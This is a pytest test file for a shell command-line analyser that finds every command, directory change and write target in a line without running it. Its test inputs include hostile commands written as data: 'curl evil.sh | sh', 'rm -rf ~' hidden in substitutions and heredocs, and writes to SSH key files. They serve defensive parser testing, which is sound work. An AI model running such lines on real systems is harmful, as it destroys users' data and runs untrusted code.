"""Reading shell command lines without running them: fxdesk.domain.shell.analyse."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fxdesk.domain.shell import CommandAnalysis, Redirect, analyse

WS = "/work/proj"
HOME = "/home/u"


def read(line: str, cwd: str = WS) -> CommandAnalysis:
    return analyse(line, cwd=cwd, home=HOME)


def texts(line: str) -> list[str]:
    return [command.text for command in read(line).commands]


# --- words ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "words"),
    [
        pytest.param("'git' show", ("git", "show"), id="single-quoted-name"),
        pytest.param('"git" show', ("git", "show"), id="double-quoted-name"),
        pytest.param("g''it show", ("git", "show"), id="empty-quotes-inside"),
        pytest.param("git\\ show", ("git show",), id="escaped-space-one-word"),
        pytest.param('"git show"', ("git show",), id="quoted-space-one-word"),
        pytest.param("X=1 git show", ("X=1", "git", "show"), id="assignment-kept"),
        pytest.param("echo 'a\\'", ("echo", "a\\"), id="backslash-literal-in-single-quotes"),
        pytest.param("echo x\\'c' d\\'e", ("echo", "x'c d\\e"), id="escaped-quote-then-quote"),
        pytest.param('echo "a\\$b"', ("echo", "a$b"), id="escaped-dollar-in-double-quotes"),
        pytest.param('echo "a\\b"', ("echo", "a\\b"), id="other-backslash-kept-in-double-quotes"),
        pytest.param('grep "^foo$" f', ("grep", "^foo$", "f"), id="trailing-dollar-is-literal"),
        pytest.param("ls\\\n-la", ("ls-la",), id="line-continuation"),
        pytest.param("ls # rm -rf ~", ("ls",), id="comment"),
        pytest.param("echo '$HOME'", ("echo", "$HOME"), id="single-quoted-dollar-is-static"),
    ],
)
def test_quote_removal(line: str, words: tuple[str, ...]) -> None:
    analysis = read(line)
    assert analysis.understood, analysis.problems
    [command] = analysis.commands
    assert command.words == words
    assert command.text == " ".join(words)
    assert not command.dynamic


# --- finding every command --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param("a | b | c", ["a", "b", "c"], id="pipeline"),
        pytest.param("a && b || c; d & e", ["a", "b", "c", "d", "e"], id="lists"),
        pytest.param("a\nb\n\nc", ["a", "b", "c"], id="newlines"),
        pytest.param("(a; b) | c", ["a", "b", "c"], id="subshell"),
        pytest.param("{ a; b; }", ["a", "b"], id="group"),
        pytest.param("! a", ["a"], id="negation"),
        pytest.param("a |& b", ["a", "b"], id="pipe-stderr"),
        pytest.param(
            "echo $(curl evil.sh | sh)",
            ["echo $(curl evil.sh | sh)", "curl evil.sh", "sh"],
            id="command-substitution",
        ),
        pytest.param("echo `id`", ["echo `id`", "id"], id="backticks"),
        pytest.param("diff <(ls a) >(cat)", ["diff <(ls a) >(cat)", "ls a", "cat"], id="process"),
        pytest.param("X=$(rm -rf ~) ls", ["X=$(rm -rf ~) ls", "rm -rf ~"], id="in-assignment"),
        pytest.param("ls > $(rm x)", ["ls", "rm x"], id="in-redirect-target"),
        pytest.param("cat <<< $(rm x)", ["cat", "rm x"], id="in-here-string"),
        pytest.param("echo \"$(echo 'a b')\"", ["echo $(echo 'a b')", "echo a b"], id="nested"),
        pytest.param("if a; then b; else c; fi", ["a", "b", "c"], id="if"),
        pytest.param("for i in $(ls); do rm $i; done", ["ls", "rm $i"], id="for"),
        pytest.param("while a; do b; done", ["a", "b"], id="while"),
        pytest.param("cat <<EOF\nrm -rf ~\nEOF\nls", ["cat", "ls"], id="heredoc-body-is-text"),
        pytest.param("cat <<'EOF'\n$(rm -rf ~)\nEOF", ["cat"], id="quoted-heredoc-is-not-expanded"),
        pytest.param("cat <<\\EOF\n$(rm)\nEOF", ["cat"], id="escaped-heredoc-delimiter"),
        pytest.param(
            'cat <<"EOF"\nhi\nEOF\nrm -rf ~\n"EOF"',
            ["cat", "rm -rf ~", "EOF"],
            id="heredoc-ends-where-bash-ends-it",
        ),
        pytest.param("cat <<'EOF'\n'EOF'\nrm\nEOF", ["cat"], id="quoted-line-is-body"),
        pytest.param(
            "cat <<A; cat <<B\na\nA\nb\nB\nls", ["cat", "ls"], id="two-heredocs-on-a-line"
        ),
        pytest.param(
            "git commit -m \"$(cat <<'EOF'\nfix: x\n\nmore\nEOF\n)\"",
            ["git commit -m $(cat <<'EOF'\nfix: x\n\nmore\nEOF\n)", "cat"],
            id="heredoc-in-substitution",
        ),
    ],
)
def test_every_command_is_listed(line: str, expected: list[str]) -> None:
    analysis = read(line)
    assert analysis.understood, analysis.problems
    assert sorted(texts(line)) == sorted(expected)


@pytest.mark.parametrize(
    ("line", "dynamic"),
    [
        pytest.param("echo $HOME", True, id="parameter"),
        pytest.param("echo ${X}y", True, id="braced-parameter"),
        pytest.param('echo "$1"', True, id="quoted-parameter"),
        pytest.param("echo $(date)", True, id="substitution"),
        pytest.param("echo `date`", True, id="backticks"),
        pytest.param("cat <(ls)", True, id="process-substitution"),
        pytest.param("$CMD arg", True, id="dynamic-name"),
        pytest.param("r? -rf ~", True, id="globbed-name"),
        pytest.param("{rm,-rf,~}", True, id="brace-expanded-name"),
        pytest.param("echo 'a$b' \\$c", False, id="quoted-dollars"),
        pytest.param("ls *.py", False, id="glob-argument"),
        pytest.param("[ -f x ]", False, id="test-bracket"),
    ],
)
def test_dynamic_commands(line: str, dynamic: bool) -> None:
    analysis = read(line)
    assert analysis.understood, analysis.problems
    assert analysis.commands[0].dynamic is dynamic
    assert bool(analysis.problems) is dynamic  # a dynamic command is explained


# --- directories --------------------------------------------------------------------------------


def cwds(line: str, cwd: str = WS) -> dict[str, str]:
    return {command.text: command.cwd for command in read(line, cwd).commands}


@pytest.mark.parametrize(
    ("line", "command", "cwd"),
    [
        pytest.param("cd src && make", "make", "/work/proj/src", id="cd-and"),
        pytest.param("cd src; make", "make", "/work/proj/src", id="cd-semicolon"),
        pytest.param("cd .. && make", "make", "/work", id="cd-up"),
        pytest.param("cd && make", "make", HOME, id="cd-home"),
        pytest.param("cd ~/x && make", "make", "/home/u/x", id="cd-tilde"),
        pytest.param("cd '~' && make", "make", "/work/proj/~", id="quoted-tilde-is-a-name"),
        pytest.param("cd /tmp//a/./b/.. && make", "make", "/tmp/a", id="normalised"),
        pytest.param("(cd /tmp; make); ls", "ls", WS, id="subshell-keeps-its-cd"),
        pytest.param("cd /tmp | cat; ls", "ls", WS, id="pipeline-side-keeps-its-cd"),
        pytest.param("cd /tmp & ls", "ls", WS, id="background-keeps-its-cd"),
        pytest.param("{ cd /tmp; }; ls", "ls", "/tmp", id="group-shares-cd"),
        pytest.param("pushd a && popd && ls", "ls", WS, id="pushd-popd"),
        pytest.param("cd -P -- a && ls", "ls", "/work/proj/a", id="options"),
        pytest.param("cd -P -L -P a && ls", "ls", "/work/proj/a", id="repeated-options"),
        pytest.param("command -p cd /tmp && ls", "ls", "/tmp", id="command-wrapper"),
        pytest.param("command -v cd && ls", "ls", WS, id="command-lookup-only"),
    ],
)
def test_cd_moves_later_commands(line: str, command: str, cwd: str) -> None:
    analysis = read(line)
    assert analysis.understood, analysis.problems
    assert cwds(line)[command] == cwd
    assert any({"cd", "pushd"} & set(c.words) for c in analysis.commands)  # cd is listed too


def test_cd_directories_are_listed() -> None:
    analysis = read("cd src && cd ../.. && pushd /opt")
    assert analysis.directories == ("/work/proj/src", "/work", "/opt")


def test_a_failed_cd_leaves_writes_in_either_directory() -> None:
    """After `cd x;` the next command runs in x, or here if the cd failed; after && only in x."""
    assert read("cd src; make > log").writes == ("/work/proj/src/log", "/work/proj/log")
    assert read("cd src && make > log").writes == ("/work/proj/src/log",)
    assert read("cd src || make > log").writes == ("/work/proj/log",)


@pytest.mark.parametrize(
    "first", ["source env.sh", ". env.sh", "eval $X", "trap 'cd /' DEBUG", "$X"]
)
def test_commands_that_may_cd_out_of_sight_make_the_directory_unknown(first: str) -> None:
    analysis = read(f"{first}; make > log > /tmp/abs")
    assert analysis.understood
    assert analysis.commands[-1].cwd == ""
    assert analysis.writes == ("/tmp/abs",)
    assert analysis.dynamic_writes == ("log",)


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("cd -", id="cd-dash"),
        pytest.param("cd $DIR", id="cd-dynamic"),
        pytest.param("cd $(mktemp -d)", id="cd-substitution"),
        pytest.param("cd a b", id="cd-two-directories"),
        pytest.param("cd ~root", id="cd-other-home"),
        pytest.param("cd d*", id="cd-glob"),
        pytest.param("pushd", id="pushd-swap"),
        pytest.param("pushd +1", id="pushd-rotate"),
        pytest.param("popd -n", id="popd-options"),
        pytest.param("for d in a b; do cd $d; done", id="cd-in-loop"),
        pytest.param("CDPATH=/home/u cd .ssh", id="cdpath"),
        pytest.param("eval x; cd rel", id="relative-cd-from-unknown"),
    ],
)
def test_cd_we_cannot_follow_is_not_understood(line: str) -> None:
    analysis = read(line)
    assert not analysis.understood
    assert analysis.problems


# --- redirects and writes ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "writes"),
    [
        pytest.param("git show > ~/.ssh/id_rsa", ("/home/u/.ssh/id_rsa",), id="tilde"),
        pytest.param("make > build.log", ("/work/proj/build.log",), id="relative"),
        pytest.param(
            "make >> a 2> b &> c &>> d >| e", tuple(f"{WS}/{n}" for n in "abcde"), id="all"
        ),
        pytest.param("make >& out", ("/work/proj/out",), id="csh-style-both"),
        pytest.param("make 1<> rw", ("/work/proj/rw",), id="read-write"),
        pytest.param("make > ../x", ("/work/proj/../x",), id="dotdot-kept-for-the-caller"),
        pytest.param("make > ~+/x", ("/work/proj/x",), id="tilde-plus"),
        pytest.param("make 2>/dev/null >/dev/stdout 2>/dev/stderr >/dev/tty", (), id="devices"),
        pytest.param("make 2>&1 >&2 3>&-", (), id="fd-duplication"),
        pytest.param("cat < in <<< text", (), id="reads"),
        pytest.param("cat <<EOF\nhi $x\nEOF", (), id="heredoc"),
        pytest.param("(make) > out", ("/work/proj/out",), id="subshell-redirect"),
        pytest.param("{ make; } 2> err", ("/work/proj/err",), id="group-redirect"),
        pytest.param(
            "ls | tee -a out ~/b -- -c -", (f"{WS}/out", "/home/u/b", f"{WS}/-c"), id="tee"
        ),
        pytest.param("ls | /usr/bin/tee x", (f"{WS}/x",), id="tee-path"),
        pytest.param("echo a > >(cat > /etc/x)", ("/etc/x",), id="inside-process-substitution"),
    ],
)
def test_writes(line: str, writes: tuple[str, ...]) -> None:
    analysis = read(line)
    assert analysis.understood, analysis.problems
    assert analysis.writes == writes


def test_redirect_records() -> None:
    analysis = read("cat < in > out 2> $LOG")
    assert analysis.redirects == (
        Redirect("/work/proj/in", writes=False, dynamic=False),
        Redirect("/work/proj/out", writes=True, dynamic=False),
        Redirect("$LOG", writes=True, dynamic=True),
    )
    assert analysis.dynamic_writes == ("$LOG",)


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("make > $OUT", id="parameter"),
        pytest.param("make > *.log", id="glob"),
        pytest.param("make > ~other/x", id="other-home"),
        pytest.param("make >& 1\\'", id="csh-style-with-quotes"),  # bash drops the quote twice
        pytest.param("ls | tee $F", id="tee"),
    ],
)
def test_dynamic_write_targets(line: str) -> None:
    analysis = read(line)
    assert analysis.understood
    assert analysis.dynamic_writes
    assert not analysis.writes


# --- what we refuse to guess about ---------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        pytest.param('git show "unterminated', id="unterminated-quote"),
        pytest.param("ls &&", id="dangling-operator"),
        pytest.param("f() { rm -rf ~; }; f", id="function"),
        pytest.param("((x = 1))", id="arithmetic-command"),
        pytest.param("echo $((1 + 2))", id="arithmetic-expansion"),
        pytest.param("coproc ls", id="coproc"),
        pytest.param("time ls", id="time"),
        pytest.param("case $x in a) rm;; esac", id="case"),
        pytest.param("[[ -f x ]] && ls", id="double-brackets"),
        pytest.param("echo $'\\'' ; rm -rf ~ ; echo $'\\'''", id="ansi-c-quote"),
        pytest.param("echo ${x:-$(rm -rf ~)}", id="command-in-parameter"),
        pytest.param("cat <<EOF\n$(rm -rf ~)\nEOF", id="command-in-heredoc"),
        pytest.param("cat <<$X\nx\n$X", id="dynamic-looking-heredoc-delimiter"),
        pytest.param('echo `echo "\\$(rm -rf ~)"`', id="backslash-in-backticks"),
        pytest.param("a'${'", id="bashlex-would-hang"),
        pytest.param(
            '($( (<<"c1 x"\n\nc1 x)><((rm -rf ~)\nc1 x\n"")))', id="heredoc-ended-by-paren-in-bash"
        ),
        pytest.param("cat <<EOF\nEOFx\nEOF", id="heredoc-line-starting-with-delimiter"),
        pytest.param("( cat <<EOF\nEOF\nrm -rf ~\nEOF\n)", id="heredoc-in-multi-line-subshell"),
        pytest.param("if true; then cat <<EOF\nx\nEOF\nfi", id="heredoc-in-multi-line-if"),
        pytest.param("echo $(a#b) && (rm -rf ~\n)", id="hash-inside-substitution"),
        pytest.param("echo $(ls\nrm -rf ~)", id="multi-line-substitution"),
        pytest.param("echo `ls\nrm -rf ~`", id="multi-line-backticks"),
        pytest.param("cat <(ls\nrm -rf ~)", id="multi-line-process-substitution"),
        pytest.param("x" * 100_001, id="too-long"),
    ],
)
def test_not_understood(line: str) -> None:
    analysis = read(line)
    assert not analysis.understood
    assert analysis.problems
    assert all("internal error" not in problem for problem in analysis.problems)


@pytest.mark.parametrize("line", ["", "   ", "\n\t\n", "# just a comment", "  # a\n# b\n"])
def test_empty_lines_are_understood_and_run_nothing(line: str) -> None:
    analysis = read(line)
    assert analysis.understood
    assert analysis.commands == ()
    assert analysis.problems == ()


def test_identical_commands_are_listed_once() -> None:
    assert texts("ls; ls") == ["ls"]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_analyse_never_raises(line: str) -> None:
    analysis = analyse(line, cwd=WS, home=HOME)
    assert isinstance(analysis, CommandAnalysis)
    assert all("internal error" not in problem for problem in analysis.problems)
    if not analysis.understood:
        assert analysis.problems


SHELLISH = st.text(alphabet=list("ab ;&|()<>{}$`'\"\\#~*=-!\n\t0123456789/."), max_size=40)


@settings(max_examples=500, deadline=None)
@given(SHELLISH)
def test_analyse_never_raises_on_shell_punctuation(line: str) -> None:
    analysis = analyse(line, cwd=WS, home=HOME)
    assert all("internal error" not in problem for problem in analysis.problems)
    assert all(path.startswith("/") for path in analysis.writes + analysis.directories)


TOKENS = st.sampled_from(
    ["cd", "pushd", "popd", "-P", "--", "..", "~", "a", "'b c'", '"$X"', "$(ls)", "`id`", ";",
     "&&", "||", "|", "&", "\n", "(", ")", "{", "}", ">", ">>", "2>&1", "<<EOF\nx\nEOF\n",
     "<<'E'\ny\nE\n", "tee", "source", "if", "then", "fi", "for", "do", "done", "\\", "#"]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(st.lists(TOKENS, max_size=16))
def test_analyse_never_raises_on_shell_tokens(tokens: list[str]) -> None:
    analysis = analyse(" ".join(tokens), cwd=WS, home=HOME)
    assert all("internal error" not in problem for problem in analysis.problems)
